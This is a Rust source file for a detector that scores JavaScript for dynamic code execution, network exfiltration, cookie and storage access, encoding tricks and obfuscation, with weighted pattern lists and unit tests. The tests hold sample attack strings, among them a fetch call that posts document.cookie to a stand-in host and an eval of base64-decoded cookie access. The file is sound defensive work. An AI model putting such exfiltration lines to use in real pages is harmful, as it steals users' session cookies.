//! Dynamic-injection detector.
//!
//! Scans script source for dynamic code execution, network
//! exfiltration, storage access, encoding primitives, and obfuscation
//! signals.

use std::time::Instant;

use crate::pipeline::outcome::Severity;

use super::{DetectionResult, ThreatKind};

/// Dynamic code execution sinks.
const EXEC_PATTERNS: &[(&str, f32)] = &[
    ("eval(", 25.0),
    ("new function(", 25.0),
    ("document.write(", 15.0),
    ("innerhtml =", 15.0),
    ("insertadjacenthtml(", 15.0),
    ("settimeout(\"", 10.0),
    ("setinterval(\"", 10.0),
];

/// Network exfiltration primitives.
const NETWORK_PATTERNS: &[(&str, f32)] = &[
    (".src =", 10.0),
    ("fetch(", 10.0),
    ("xmlhttprequest", 10.0),
];

/// Storage / cookie access.
const STORAGE_PATTERNS: &[(&str, f32)] = &[
    ("document.cookie", 10.0),
    ("localstorage", 8.0),
    ("sessionstorage", 8.0),
];

/// Encoding primitives, often used to smuggle a payload past literal
/// scanning.
const ENCODING_PATTERNS: &[(&str, f32)] = &[("atob(", 10.0), ("btoa(", 5.0), ("fromcharcode", 10.0)];

/// Obfuscation heuristics: a high density of hex/unicode escapes, or
/// overlong lines, both common in minified or deliberately obfuscated
/// exfiltration payloads.
fn obfuscation_bonus(script: &str) -> f32 {
    let escape_count = script.matches("\\x").count() + script.matches("\\u").count();
    let escape_bonus = if escape_count > 10 { 15.0 } else { 0.0 };

    let overlong_bonus = script
        .lines()
        .any(|line| line.len() > 500)
        .then_some(10.0)
        .unwrap_or(0.0);

    escape_bonus + overlong_bonus
}

/// Scan `script` source for dynamic-injection signals.
#[must_use]
pub fn detect(script: &str) -> DetectionResult {
    let start = Instant::now();

    if script.trim().is_empty() {
        return DetectionResult::none(ThreatKind::DynamicInjection, start.elapsed());
    }

    let lower = script.to_lowercase();
    let mut score = 0.0f32;
    let mut matches = Vec::new();

    for group in [EXEC_PATTERNS, NETWORK_PATTERNS, STORAGE_PATTERNS, ENCODING_PATTERNS] {
        for (pattern, weight) in group {
            if lower.contains(pattern) {
                score += weight;
                matches.push((*pattern).to_string());
            }
        }
    }

    score += obfuscation_bonus(&lower);
    score = score.min(100.0);

    DetectionResult {
        detected: score > 0.0,
        score,
        severity: Severity::from_score(score),
        threat_kind: ThreatKind::DynamicInjection,
        matches,
        details: std::collections::HashMap::new(),
        latency: start.elapsed(),
    }
    .cap_matches(10)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn empty_script_not_detected() {
        assert!(!detect("").detected);
    }

    #[test]
    fn benign_script_scores_low() {
        let result = detect("function greet(name) { return 'hello ' + name; }");
        assert!(!result.detected);
    }

    #[test]
    fn eval_detected() {
        let result = detect("eval(atob('ZG9jdW1lbnQuY29va2ll'))");
        assert!(result.detected);
        assert!(result.score > 0.0);
    }

    #[test]
    fn exfiltration_chain_scores_high() {
        let result = detect(
            "fetch('https://evil.example/collect', { method: 'POST', body: document.cookie })",
        );
        assert!(result.detected);
        assert!(result.score >= 20.0);
    }

    #[test]
    fn obfuscated_escapes_add_bonus() {
        let clean = detect("fetch('/api')");
        let escapes: String = std::iter::repeat("\\x41").take(15).collect();
        let obfuscated = detect(&format!("fetch('/api{escapes}')"));
        assert!(obfuscated.score > clean.score);
    }
}
